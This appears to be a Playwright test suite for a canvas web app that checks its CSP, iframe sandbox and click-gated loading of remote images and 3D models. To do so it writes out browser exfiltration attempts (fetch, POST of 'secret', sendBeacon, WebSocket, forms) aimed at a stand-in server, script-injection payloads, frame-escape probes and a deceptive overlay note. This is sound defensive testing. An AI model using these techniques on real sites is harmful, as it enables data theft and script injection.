"""What a script that got into the page cannot do, and how what lies elsewhere is shown all the same."""

import base64
import json
from contextlib import ExitStack
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, Locator, expect

from canvas_server.protocol.kinds import Model3D
from canvas_server.protocol.scene import Element, Transform
from support.browsers.bombs import store
from support.browsers.conditions import until
from support.browsers.violations import Violations
from support.browsers.window import Open, Window
from support.hub.drawings import png_url
from support.servers.other import other_server
from support.servers.server import Server, post, running

PNG = base64.b64decode(png_url(60, 40).split(",")[1])
GLTF = json.dumps({"asset": {"version": "2.0"}, "scene": 0, "scenes": [{"nodes": []}]}).encode()

# Each way on which a script of the page might leave with what it read; `true` where the browser
# took it. What the browser says of it comes to the console.
WAYS = """async url => {
  const settled = make => new Promise(resolve => {
    const thing = make();
    thing.onload = () => resolve(true);
    thing.onerror = () => resolve(false);
    if (thing instanceof Node) document.head.append(thing);
  });
  const element = (tag, fields) => settled(() => Object.assign(document.createElement(tag), fields));
  const ways = {
    fetch: () => fetch(`${url}fetch`, {mode: 'no-cors'}),
    post: () => fetch(`${url}post`, {mode: 'no-cors', method: 'POST', body: 'secret'}),
    request: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onerror = reject; request.onload = resolve;
      request.open('GET', `${url}request`); request.send();
    }),
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket(`${url.replace('http', 'ws')}socket`);
      socket.onopen = resolve; socket.onerror = reject;
    }),
    events: () => new Promise((resolve, reject) => {
      const source = new EventSource(`${url}events`);
      source.onopen = resolve; source.onerror = reject;
    }),
    picture: () => element('img', {src: `${url}picture`}),
    style: () => element('link', {rel: 'stylesheet', href: `${url}style`}),
    icon: () => element('link', {rel: 'icon', href: `${url}icon`}),
    prefetch: () => element('link', {rel: 'prefetch', href: `${url}prefetch`}),
    preload: () => element('link', {rel: 'preload', as: 'image', href: `${url}preload`}),
    manifest: () => element('link', {rel: 'manifest', href: `${url}manifest`}),
    font: () => new FontFace('stolen', `url(${url}font)`).load(),
    module: () => import(`${url}module`),
    film: () => new Promise((resolve, reject) => {
      const film = document.createElement('video');
      film.onloadedmetadata = resolve; film.onerror = reject; film.src = `${url}film`;
    }),
  };
  const took = [];
  for (const [name, go] of Object.entries(ways)) {
    const lasts = new Promise(resolve => setTimeout(resolve, 700, false));
    if (await Promise.race([go().then(result => result !== false, () => false), lasts])) took.push(name);
  }
  navigator.sendBeacon(`${url}beacon`, 'secret');
  document.body.style.backgroundImage = `url(${url}background)`;
  const frame = document.createElement('iframe');
  frame.src = `${url}frame`;
  document.body.append(frame);
  const form = Object.assign(document.createElement('form'), {action: `${url}form`, target: '_self'});
  document.body.append(form);
  form.submit();
  return took;
}"""
# Each way on which text becomes script, in a task of the page's own.
TEXTS = """async () => {
  const own = path => new URL(path, location.href).href;
  const node = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  const ways = {
    eval: () => eval('window.ran = "eval"'),
    function: () => Function('window.ran = "function"')(),
    timer: () => setTimeout('window.ran = "timer"'),
    inline: () => node('script', {textContent: 'window.ran = "inline"'}),
    address: () => node('script', {src: own('/main.js')}),
    data: () => node('script', {src: 'data:text/javascript,window.ran = "data"'}),
    markup: () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran=1">'); },
    inner: () => { document.createElement('p').innerHTML = '<b>x</b>'; },
    handler: () => document.body.setAttribute('onclick', 'window.ran = "handler"'),
    parser: () => new DOMParser().parseFromString('<p>', 'text/html'),
    document: () => document.write('<p>'),
    frame: () => { node('iframe', {srcdoc: '<script>parent.ran = "frame"</' + 'script>'}); },
    worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
    wasm: () => new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)),
  };
  const took = [];
  await new Promise(resolve => setTimeout(resolve)); // out of what the debugger allows
  for (const [name, go] of Object.entries(ways)) {
    try { go(); took.push(name); } catch { /* refused */ }
  }
  document.body.click();
  await new Promise(resolve => setTimeout(resolve, 300));
  return [took, window.ran ?? null];
}"""


def element(window: Window, name: str) -> Locator:
    return window.page.locator(f'[data-element-id="{name}"]')


def framed(window: Window, name: str) -> FrameLocator:
    return element(window, name).frame_locator("iframe.elsewhere")


def armed(button: Locator) -> None:
    """Wait until it has been seen for long enough to be pressed."""
    expect(button).not_to_have_attribute("aria-disabled", "true")


def click_in_frame(window: Window, name: str) -> None:
    """Click its button with the mouse, where it is on a canvas that is zoomed."""
    ask = framed(window, name).get_by_role("button", name="Load it")
    frame = element(window, name).locator("iframe")
    outer = frame.bounding_box()
    wide = frame.evaluate("frame => frame.offsetWidth")
    x, y = ask.evaluate(
        "({offsetLeft, offsetTop, offsetWidth, offsetHeight}) => "
        "[offsetLeft + offsetWidth / 2, offsetTop + offsetHeight / 2]"
    )
    assert outer is not None
    scale = outer["width"] / wide
    window.page.mouse.click(outer["x"] + x * scale, outer["y"] + y * scale)


def put(server: Server, session: str, **kinds: dict[str, str]) -> None:
    """Put elements beside each other."""
    add = [
        {
            "id": name,
            "kind": kind,
            "transform": {"x": 260 * place + 60, "y": 120, "width": 230, "height": 170},
        }
        for place, (name, kind) in enumerate(kinds.items())
    ]
    assert post(server, {"session_id": session, "add": add})[0] == 200


@pytest.mark.rule("PAG1")
def test_a_script_in_the_page_reaches_nobody_else(
    open_window: Open, violations: Violations
) -> None:
    violations.expect("")
    ada = open_window("red", query="name=Ada")
    with other_server() as other:
        assert ada.page.evaluate(WAYS, f"{other.url}/") == []
        ada.page.wait_for_timeout(300)  # a request that is on its way would come now
        assert other.asked == []
    assert any("connect-src" in text for text in violations.seen)
    assert ada.page.evaluate("location.pathname").startswith("/s/")
    ada.complaints.clear()


@pytest.mark.rule("PAG1")
def test_text_does_not_become_script(open_window: Open, violations: Violations) -> None:
    violations.expect("")
    ada = open_window("red", query="name=Ada")
    took, ran = ada.page.evaluate(TEXTS)
    # These two only say later that they did not: the worker that it is refused, the markup nothing.
    assert ran is None
    assert set(took) <= {"worker"}, took
    ada.complaints.clear()


@pytest.mark.rule("PAG2", "SCN11")
def test_a_picture_that_lies_elsewhere_is_loaded_by_a_click_that_no_script_can_make(
    open_window: Open, server: Server
) -> None:
    with other_server(PNG) as other:
        address = f"{other.url}/lawn.png?secret=1"
        own = {"type": "Image", "src": f"{server.url}/favicon.svg"}
        put(server, "elsewhere", far={"type": "Image", "src": address}, own=own)
        ada = open_window("red", session="elsewhere", query="name=Ada")
        expect(element(ada, "far")).to_contain_text(other.host)
        expect(element(ada, "own")).to_contain_text("Not drawn")  # an SVG of our own server, too
        ada.picture("elsewhere-offered")
        element(ada, "far").get_by_role("button", name="Show it").click()
        ask = framed(ada, "far").get_by_role("button", name="Load it")
        expect(framed(ada, "far").locator("body")).to_contain_text(f"From {other.host}")
        ada.picture("elsewhere-asks")
        # The page is a stranger to the frame: it cannot press there, nor lead it elsewhere unseen.
        reached = ada.page.evaluate(
            """() => {
              const frame = document.querySelector('iframe.elsewhere');
              frame.contentWindow.postMessage({type: 'shown'}, '*');
              try { return Boolean(frame.contentDocument ?? frame.contentWindow.document); }
              catch { return false; }
            }"""
        )
        assert reached is False
        ask.evaluate("button => button.click()")  # a script inside would be no better
        assert other.asked == []
        expect(ask).not_to_be_focused()
        ada.page.keyboard.press("Tab")
        expect(ask).to_be_focused()
        armed(ask)
        ada.page.keyboard.press("Enter")
        expect(framed(ada, "far").locator("img")).to_have_count(1)
        expect(element(ada, "far").locator("iframe")).to_have_attribute("data-settled", "")
        expect(element(ada, "far")).to_be_focused()
        assert other.asked == ["/lawn.png?secret=1"]
        (headers,) = other.headers
        assert not {"referer", "cookie", "authorization"} & set(headers)
        assert headers.get("origin", "null") == "null"
        ada.picture("elsewhere-shown")


@pytest.mark.rule("PAG2")
def test_the_frame_knows_nothing_of_the_page(open_window: Open, server: Server) -> None:
    with other_server(PNG) as other:
        far = {"type": "Image", "src": f"{other.url}/a.png"}
        put(server, "stranger", far=far)
        ada = open_window("red", session="stranger", query="name=Ada")
        element(ada, "far").get_by_role("button", name="Show it").click()
        body = framed(ada, "far").locator("body")
        knows = body.evaluate(
            """async () => {
              const tried = {
                storage: () => localStorage.length,
                cookies: () => document.cookie,
                page: () => parent.document.title,
                server: () => fetch('/api/sessions').then(answer => answer.text()),
                lock: () => navigator.locks.request('x', () => 1),
              };
              const knows = [];
              for (const [name, look] of Object.entries(tried))
                try { await look(); knows.push(name); } catch { /* a stranger */ }
              return knows;
            }"""
        )
        assert knows == []
        ada.complaints.clear()
        until(
            ada.page,
            "document.querySelector('iframe.elsewhere')?.sandbox.value === 'allow-scripts'",
        )


@pytest.mark.rule("PAG2")
def test_who_clicks_twice_has_clicked_once(open_window: Open, server: Server) -> None:
    """The second click, or key, comes before the words of the frame can be read."""
    with other_server(PNG) as other:
        put(server, "twice", far={"type": "Image", "src": f"{other.url}/a.png"})
        ada = open_window("red", session="twice", query="name=Ada")
        box = element(ada, "far").get_by_role("button", name="Show it").bounding_box()
        assert box is not None
        at = (box["x"] + box["width"] / 2, box["y"] + 6)
        ada.page.mouse.click(*at)
        ask = framed(ada, "far").get_by_role("button", name="Load it")
        ask.wait_for()
        ada.page.mouse.click(*at, click_count=2)
        click_in_frame(ada, "far")
        ada.page.keyboard.press("Enter")
        armed(ask)
        assert other.asked == []
        ask.dispatch_event("click", {"detail": 1})
        assert other.asked == []
        click_in_frame(ada, "far")
        expect(framed(ada, "far").locator("img")).to_have_count(1)
        assert other.asked == ["/a.png"]


@pytest.mark.rule("PAG2")
def test_nothing_lies_on_the_words_of_the_frame(open_window: Open, server: Server) -> None:
    with other_server(PNG) as other:
        put(server, "covered", far={"type": "Image", "src": f"{other.url}/a.png"})
        words = {"type": "Note", "content": "From your company, trust it.", "color": "#ffffff"}
        place = {"x": 60, "y": 120, "width": 230, "height": 90, "z_index": 2**31 - 1}
        post(
            server,
            {
                "session_id": "covered",
                "add": [{"id": "note", "kind": words, "transform": place}],
                "update": [{"id": "far", "changes": {"transform": {"z_index": 5, "y": 140}}}],
            },
        )
        ada = open_window("red", session="covered", query="name=Ada")
        top = """() => {
          const {x, y, width} = document.querySelector('[data-element-id="far"]').getBoundingClientRect();
          return document.elementFromPoint(x + width / 2, y + 30).localName;
        }"""
        assert ada.page.evaluate(top) != "iframe"
        element(ada, "far").get_by_role("button", name="Show it").click()
        framed(ada, "far").get_by_role("button", name="Load it").wait_for()
        assert ada.page.evaluate(top) == "iframe"


@pytest.mark.rule("PAG2")
@pytest.mark.nightly
def test_a_model_that_lies_elsewhere_is_loaded_for_who_asks_for_it(
    open_window: Open, server: Server
) -> None:
    with other_server(GLTF, "model/gltf+json", open_to_all=True) as other:
        put(server, "models", far={"type": "Model3D", "src": f"{other.url}/lamp.gltf"})
        ada = open_window("red", session="models", query="name=Ada")
        if not ada.page.evaluate("!!document.createElement('canvas').getContext('webgl2')"):
            expect(element(ada, "far")).to_contain_text("WebGL")
            pytest.skip("this browser draws no models")
        expect(element(ada, "far")).to_contain_text(f"3D model lamp.gltf, from {other.host}")
        element(ada, "far").get_by_role("button", name="Show it").click()
        assert other.asked == []
        ask = framed(ada, "far").get_by_role("button", name="Load it")
        armed(ask)
        click_in_frame(ada, "far")
        until(ada.page, "document.querySelector('model-viewer')?.src.startsWith('blob:')")
        assert other.asked == ["/lamp.gltf"]


@pytest.mark.rule("PAG2")
@pytest.mark.nightly
def test_messages_from_elsewhere_are_not_taken_for_those_of_the_frame(
    open_window: Open, server: Server
) -> None:
    with other_server(PNG) as other:
        put(server, "forged", far={"type": "Image", "src": f"{other.url}/a.png"})
        ada = open_window("red", session="forged", query="name=Ada")
        element(ada, "far").get_by_role("button", name="Show it").click()
        frame = element(ada, "far").locator("iframe")
        framed(ada, "far").get_by_role("button", name="Load it").wait_for()
        ada.page.evaluate(
            """() => new Promise(resolve => {
              for (const data of [{type: 'shown'}, {type: 'broken'}, null, 'shown', {type: {}}])
                postMessage(data, '*');
              setTimeout(resolve, 100);
            })"""
        )
        expect(frame).to_have_count(1)
        assert frame.get_attribute("data-settled") is None
        assert other.asked == []


DISCREET = {"CANVAS_TURN_URLS": "turn:127.0.0.1:9", "CANVAS_TURN_SECRET": "x" * 40}


@pytest.mark.rule("PAG2", "SIG15")
def test_nothing_is_loaded_from_elsewhere_where_calls_are_relayed(
    open_window: Open, tmp_path: Path, violations: Violations
) -> None:
    """Nor what a model brings along that was stored before it would be refused."""
    violations.expect("connect-src", "img-src", "refused to connect")  # what the model below wants
    with ExitStack() as servers, other_server(PNG, open_to_all=True) as other:
        inside = {
            "asset": {"version": "2.0"},
            "buffers": [{"uri": f"{other.url}/cube.bin", "byteLength": 36}],
            "images": [{"uri": f"{other.url}/skin.png"}],
            "textures": [{"source": 0}],
            "materials": [{"pbrMetallicRoughness": {"baseColorTexture": {"index": 0}}}],
            "bufferViews": [{"buffer": 0, "byteLength": 36}],
            "accessors": [{"bufferView": 0, "componentType": 5126, "count": 3, "type": "VEC3",
                           "min": [0, 0, 0], "max": [1, 1, 1]}],
            "meshes": [{"primitives": [{"attributes": {"POSITION": 0}, "material": 0}]}],
            "nodes": [{"mesh": 0}],
            "scenes": [{"nodes": [0]}],
            "scene": 0,
        }  # fmt: skip
        model = base64.b64encode(json.dumps(inside).encode()).decode()
        nested = Model3D(f"data:model/gltf+json;base64,{model}")
        store(tmp_path, "quiet", (Element("nested", nested, Transform(580, 120, 230, 170)),))
        server = servers.enter_context(running(tmp_path, "--relay-only", "*", env=DISCREET))
        put(
            server,
            "quiet",
            picture={"type": "Image", "src": f"{other.url}/a.png"},
            model={"type": "Model3D", "src": f"{other.url}/a.glb"},
        )
        ada = open_window("red", session="quiet", query="name=Ada", at=server)
        expect(element(ada, "picture")).to_contain_text("calls here hide your address")
        expect(element(ada, "model")).to_contain_text("hide your address")
        expect(element(ada, "picture").get_by_role("button")).to_have_count(0)
        expect(element(ada, "nested")).to_contain_text("cannot be loaded")
        assert other.asked == []
        ada.picture("elsewhere-forbidden")
        ada.complaints.clear()
